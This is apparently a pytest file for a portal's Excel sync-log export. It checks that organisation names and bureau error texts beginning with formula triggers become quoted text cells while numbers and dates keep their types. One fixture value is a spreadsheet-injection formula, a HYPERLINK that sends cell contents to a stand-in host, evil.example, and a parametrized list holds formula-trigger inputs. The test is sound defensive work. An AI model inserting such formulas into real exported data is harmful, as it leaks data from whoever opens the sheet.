"""导出 never writes a live formula: text from the bureau or an organisation name that
starts with = + - @ (or a tab / CR before one) is a text cell; numbers and dates keep
their types. State is produced through the product: the admin renames the organisation,
the sandbox bureau answers the download application with the error text."""
from __future__ import annotations

import io
from datetime import datetime

import pytest
from openpyxl import load_workbook

from portal.excel.cells import safe_cell, needs_quoting
from tests.conftest import csrf_from
from tests.sync_helpers import create_via_form, org, run_worker, tasks

EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
EVIL_ERROR = "@SUM(1)"


@pytest.fixture
def env(portal_with_sandbox, sandbox, auth):
    return portal_with_sandbox


def _rename(auth, client, code: str, name: str):
    o = org(code)
    page = client.get(f"/admin/orgs/{o.id}").get_data(as_text=True)
    data = _form_fields(page)
    data.update(name=name, csrf_token=csrf_from(page))
    r = client.post(f"/admin/orgs/{o.id}", data=data)
    assert r.status_code == 302, r.get_data(as_text=True)


def _form_fields(html: str) -> dict:
    """The organisation form as the browser would post it back (inputs, ticked boxes, selects)."""
    import re
    data = {}
    for tag in re.findall(r"<input[^>]*>", html):
        name = re.search(r'name="([^"]+)"', tag)
        if not name:
            continue
        kind = (re.search(r'type="([^"]+)"', tag) or [None, "text"])[1]
        value = (re.search(r'value="([^"]*)"', tag) or [None, ""])[1]
        if kind == "checkbox":
            if "checked" in tag:
                data[name[1]] = value or "y"
        elif kind != "submit":
            data[name[1]] = value.replace("&#34;", '"').replace("&amp;", "&")
    for name, body in re.findall(r'<select[^>]*name="([^"]+)"[^>]*>(.*?)</select>', html, re.S):
        chosen = re.search(r'<option[^>]*selected[^>]*value="([^"]*)"', body) or \
            re.search(r'<option[^>]*value="([^"]*)"[^>]*selected', body) or re.search(r'value="([^"]*)"', body)
        data[name] = chosen[1]
    return data


def test_export_writes_formula_like_text_as_text_cells(env, sandbox, auth, client):
    auth.login("admin")
    _rename(auth, client, "ORG01", EVIL_NAME)
    assert org("ORG01").name == EVIL_NAME
    sandbox.fault(org("ORG01").tax_id, "fail", reason_code="download_apply_failed", message=EVIL_ERROR,
                  operation="apply_download", count=1)
    create_via_form(auth, "ORG01")
    run_worker()
    task = tasks()[0]
    assert task.status == "apply_failed" and task.error == EVIL_ERROR

    r = auth.post("/sync-logs/export", {"ids": [str(task.id)]}, page="/sync-logs/")
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.data)).active
    header, row = list(ws.iter_rows(min_row=1, max_row=2))
    by_header = {h.value: cell for h, cell in zip(header, row)}
    for column, text in (("核算组织", EVIL_NAME), ("错误描述", EVIL_ERROR)):
        cell = by_header[column]
        assert cell.value == text          # unchanged, so a re-import reads what was exported
        assert cell.data_type == "s"       # text, not a formula ('f')
        assert cell.quotePrefix is True    # and stays text when a clerk edits the cell
    # numbers and dates keep their types
    assert by_header["下载发票份数"].data_type == "n"
    assert isinstance(by_header["下载开始时间"].value, datetime)
    assert isinstance(by_header["创建时间"].value, datetime) and by_header["创建时间"].data_type == "d"
    assert by_header["下载批次号"].quotePrefix is False


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(1)", "\t=1", "\r=1", "\n=1"])
def test_formula_triggers_become_text_cells(value):
    cell = safe_cell(value)
    assert needs_quoting(value) and cell.value == value and cell.data_type == "s" and cell.quotePrefix


@pytest.mark.parametrize("value", ["华东科技有限公司", "a=b", "", None, 5, -3, 1.5, datetime(2026, 1, 2)])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) is value
